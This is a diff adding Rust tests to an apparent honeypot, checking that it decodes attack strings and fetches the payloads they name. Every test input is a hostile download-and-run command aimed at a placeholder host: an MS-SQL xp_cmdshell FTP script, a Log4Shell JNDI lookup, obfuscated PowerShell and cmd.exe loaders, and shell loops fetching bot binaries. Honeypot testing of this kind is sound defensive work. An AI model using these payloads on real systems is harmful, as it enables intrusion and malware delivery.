@@ -741,3 +741,92 @@ fn xor_encoded_commands_are_decoded_by_xmatch() {
     lab.expect_download(".x", &x);
     assert!(lab.log().contains("xmatch - Attack string is XOR-encoded with a 3-byte key"), "{}", lab.log());
 }
+
+/// A TDS SQL batch packet (header, ALL_HEADERS, the batch in UTF-16LE), as an MS-SQL client
+/// sends it.
+fn tds_batch(sql: &str) -> Vec<u8> {
+    let mut p = vec![0x01, 0x01, 0, 0, 0, 0, 0x01, 0x00];
+    p.extend_from_slice(&[22, 0, 0, 0, 18, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0]);
+    p.extend_from_slice(&utf16(sql));
+    let n = u16::try_from(p.len()).unwrap().to_be_bytes();
+    p[2..4].copy_from_slice(&n);
+    p
+}
+
+#[test]
+fn commands_inside_string_literals_are_fetched() {
+    if !needs("commands_inside_string_literals_are_fetched") {
+        return;
+    }
+    let (a, b, c) = (sample(41, 4100), sample(42, 2300), sample(43, 3100));
+    let lab = Lab::start(&[("l1.exe", &a), ("l2.bin", &b), ("l3.sh", &c)], "");
+    // MS-SQL: an FTP script through xp_cmdshell, the quote glued to its first word.
+    lab.attack(tds_batch(&format!(
+        "EXEC master..xp_cmdshell 'echo open {CLI4} 21>f.txt&echo user foo bar>>f.txt&echo binary>>f.txt&echo get l1.exe>>f.txt&echo bye>>f.txt&ftp -n -s:f.txt'"
+    )));
+    lab.expect_download("l1.exe", &a);
+    // A JSON body: the command with escaped quotes in a string value, through bash -c.
+    lab.attack(
+        format!(
+            "POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{{\"cmd\":\"bash -c \\\"curl -o \\\\\\\"/tmp/lit2\\\\\\\" http:\\/\\/{CLI4}\\/l2.bin\\\"\"}}"
+        )
+        .into_bytes(),
+    );
+    lab.expect_download("lit2", &b);
+    // PHP system() with a TFTP fetch.
+    lab.attack(format!("<?php system('cd /tmp; tftp -g -r l3.sh -l lit3 {CLI4}'); ?>\n").into_bytes());
+    lab.expect_download("lit3", &c);
+}
+
+#[test]
+fn jndi_lookup_commands_are_fetched_and_endpoints_only_logged() {
+    if !needs("jndi_lookup_commands_are_fetched_and_endpoints_only_logged") {
+        return;
+    }
+    let data = sample(44, 2600);
+    let lab = Lab::start(&[("l4j.sh", &data)], "");
+    let cmd = format!("cd /tmp; wget http://{CLI4}/l4j.sh -O /tmp/log4; sh /tmp/log4");
+    lab.attack(
+        format!(
+            "GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${{${{lower:j}}${{::-n}}di:ldap://{CLI4}:1389/Basic/Command/Base64/{}}}\r\n\r\n",
+            b64(cmd.as_bytes())
+        )
+        .into_bytes(),
+    );
+    lab.expect_download("log4", &data);
+    let log = lab.path("honeytrap.log");
+    let line = format!("JNDI lookup - Attack string names ldap://{CLI4}:1389, not contacted.");
+    assert!(wait_for_text(&log, &line, T), "{}", lab.log());
+    assert!(!lab.log().contains(":1389 ") && !lab.log().contains(&format!("{CLI4}:1389.")), "{}", lab.log());
+}
+
+#[test]
+fn strings_built_at_run_time_are_fetched() {
+    if !needs("strings_built_at_run_time_are_fetched") {
+        return;
+    }
+    let (arm, mips, ps, ftp) = (sample(45, 1900), sample(46, 2100), sample(47, 2700), sample(48, 3300));
+    let lab = Lab::start(&[("b.arm", &arm), ("b.mips", &mips), ("r.exe", &ps), ("f.exe", &ftp)], "");
+    // Shell: a variable and a loop over a literal list.
+    lab.attack(
+        format!("cd /tmp; u=http://{CLI4}; for a in arm mips; do wget $u/b.$a -O /tmp/bot.$a; done\n").into_bytes(),
+    );
+    // PowerShell: variables, concatenation, -join.
+    lab.attack(
+        format!(
+            "powershell -nop -c \"$h=('{}','{}') -join '.'; $u='ht'+'tp://'+$h+'/r.exe'; (New-Object Net.WebClient).DownloadFile($u,'C:\\Users\\Public\\r2.exe')\"\r\n",
+            &CLI4[..5],
+            &CLI4[6..]
+        )
+        .into_bytes(),
+    );
+    // cmd.exe: set and %h% in an FTP script, with caret escapes.
+    lab.attack(
+        format!("cmd /c set h={CLI4}&& e^cho open %h% 21>o&echo user foo bar>>o&echo binary>>o&echo get f.exe>>o&echo bye>>o&f^t^p -n -s:o\r\n")
+            .into_bytes(),
+    );
+    lab.expect_download("bot.arm", &arm);
+    lab.expect_download("bot.mips", &mips);
+    lab.expect_download("r2.exe", &ps);
+    lab.expect_download("f.exe", &ftp);
+}
